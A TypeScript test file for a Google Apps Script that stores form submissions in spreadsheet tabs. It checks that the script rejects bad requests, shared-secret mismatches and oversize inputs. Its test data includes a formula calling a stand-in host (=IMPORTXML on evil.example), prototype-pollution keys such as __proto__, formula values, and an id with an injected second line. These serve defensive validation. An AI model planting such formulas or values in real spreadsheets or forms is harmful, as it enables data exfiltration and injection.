import { FORMS } from '../src/submission/forms/index';
import type { SubmissionKind } from '../src/submission/types';
import { startScript, type ScriptQuery, type RunningScript } from './testing/appsScript';
import { createKey, createPayload } from './testing/submit';

/** The real docs/apps-script.gs with fake Google services. These tests check the requests that the script refuses. */
let script: RunningScript;
beforeEach(() => {
  script = startScript();
});

const expectNothingStored = () => {
  expect(script.countRows()).toEqual({ Applications: 0, Contact: 0 });
  expect(script.google.tabs.map(({ rows }) => rows)).toEqual([[], []]);
  expect(script.google.files).toEqual([]);
};

test('§3.12 §3.13 the script accepts exactly the payload fields of each kind of form', () => {
  const payloads = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, createPayload(kind)] as const);
  expect(script.fields).toEqual(Object.fromEntries(payloads.map(([kind, payload]) => [kind, Object.keys(payload)])));
  for (const [, payload] of payloads) expect(script.post(payload)).toEqual({ ok: true });
  expect(script.countRows()).toEqual({ Applications: 1, Contact: 1, Quotes: 1, 'Custom requests': 1 });
});

const parseJson = (text: string): unknown => JSON.parse(text);
const manyFields = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, 'x']));

test.each<[string, unknown]>([
  ['broken JSON', '{"timestamp":'],
  ['null', 'null'],
  ['a list', [createPayload('contact')]],
  ['a text', '"targetGid"'],
  ['an object without fields', {}],
  ['an unknown targetGid', { ...createPayload('contact'), targetGid: '7' }],
  ['a targetGid that is the name of an inherited property', { ...createPayload('contact'), targetGid: 'constructor' }],
  ['a targetGid that is a number', { ...createPayload('contact'), targetGid: 0 }],
  ['a formula as a field', { ...createPayload('contact'), '=IMPORTXML("https://evil.example")': 'x' }],
  ['10,000 fields', { ...createPayload('contact'), ...manyFields }],
  ['the id as a field', { ...createPayload('contact'), submission: '=1+1' }],
  ['__proto__ as a field', parseJson(JSON.stringify(createPayload('contact')).replace('{', '{"__proto__":"x",'))],
  ['constructor as a field', { ...createPayload('contact'), constructor: 'x' }],
  ['a field of another kind', { ...createPayload('contact'), requirements: 'A lot' }],
  ['fields of two kinds', { ...createPayload('quote'), requirements: 'A lot' }],
  ['a list as a value', { ...createPayload('contact'), message: ['=1+1'] }],
  ['an object as a value', { ...createPayload('contact'), message: { toString: '=1+1' } }],
  ['a number as a value', { ...createPayload('custom-request'), phone: 151 }],
  ['null as a value', { ...createPayload('contact'), message: null }],
  ['more characters than the limit of a cell', createPayload('application', { coverLetter: 'x'.repeat(60_000) })],
  [
    'a text of 50,000 characters, which exceeds the limit of a cell after the script has added an apostrophe',
    createPayload('application', { coverLetter: 'x'.repeat(50_000) }),
  ],
  ['a résumé that is no data URL', createPayload('application', { resumeBase64: 'nonsense' })],
])('§8 the script refuses a body (%s), and stores nothing', (_title, payload) => {
  for (const query of [{ submission: createKey() }, {}])
    expect(script.post(payload, query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
  expectNothingStored();
  expect(script.google.loggedErrors).toHaveLength(2);
});

test.each<[string, ScriptQuery]>([
  ['a formula as the id', { submission: '=IMPORTXML("https://evil.example")' }],
  ['an empty id', { submission: '' }],
  ['an id with a second line', { submission: `${createKey()}\n=1+1` }],
  ['two ids', `submission=${createKey()}&submission=${createKey()}`],
  ['an unknown value of quarantine', { quarantine: 'yes' }],
  ['quarantine twice', 'quarantine=1&quarantine=1'],
])('§8 the script refuses a query with %s, and stores nothing', (_title, query) => {
  expect(script.post(createPayload('contact'), query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
  expectNothingStored();
});

test('§8 the script responds with an error when the tab for contact messages was deleted', () => {
  script.google.tabs.pop();
  expect(script.post(createPayload('contact'), { submission: createKey() })).toMatchObject({ ok: false });
  expect(script.countRows()).toEqual({ Applications: 0 });
});

test('§8 the error message about an unknown field contains the name of the field, and truncates a long name', () => {
  const { error } = script.post({ ...createPayload('contact'), ['x'.repeat(5000)]: '' });
  expect(error).toMatch(/x{20}/);
  expect(error?.length).toBeLessThan(200);
});

describe('§8 the script with RELAY_SECRET', () => {
  const secret = 's3cret/with+signs&=%';
  beforeEach(() => {
    script.google.properties.RELAY_SECRET = secret;
  });

  test('the script stores a request with the secret', () => {
    expect(script.post(createPayload('contact'), { submission: createKey(), secret })).toEqual({ ok: true });
    expect(script.countRows()).toMatchObject({ Contact: 1 });
  });

  test.each<[string, ScriptQuery]>([
    ['no secret', {}],
    ['an empty secret', { secret: '' }],
    ['another secret', { secret: `${secret.slice(0, -1)}x` }],
    ['the beginning of the secret', { secret: secret.slice(0, -1) }],
    ['the secret and one more character', { secret: `${secret}x` }],
    ['the secret twice', `${String(new URLSearchParams({ secret }))}&secret=x`],
    ['the secret under another name', String(new URLSearchParams({ Secret: secret }))],
  ])('the script refuses a request with %s, acquires no lock, parses no body and stores nothing', (_title, query) => {
    // A request without the correct secret must not acquire the lock, because the lock would block the requests of the
    // relay.
    script.google.isLocked = true;
    script.post(createPayload('contact'), query);
    script.post('{"timestamp":', query);
    expect(script.google.loggedErrors.join()).not.toMatch(/lock|JSON/i);
    script.google.isLocked = false;
    const response = script.post(createPayload('contact'), query);
    expect(response.ok).toBe(false);
    expect(JSON.stringify([response, script.google.loggedErrors])).not.toContain(secret);
    expectNothingStored();
  });

  test.each(['', 'short'])('the script refuses every request when the script property RELAY_SECRET is %j', (value) => {
    script.google.properties.RELAY_SECRET = value;
    expect(script.post(createPayload('contact'), { secret: value })).toMatchObject({ ok: false });
    expectNothingStored();
  });
});
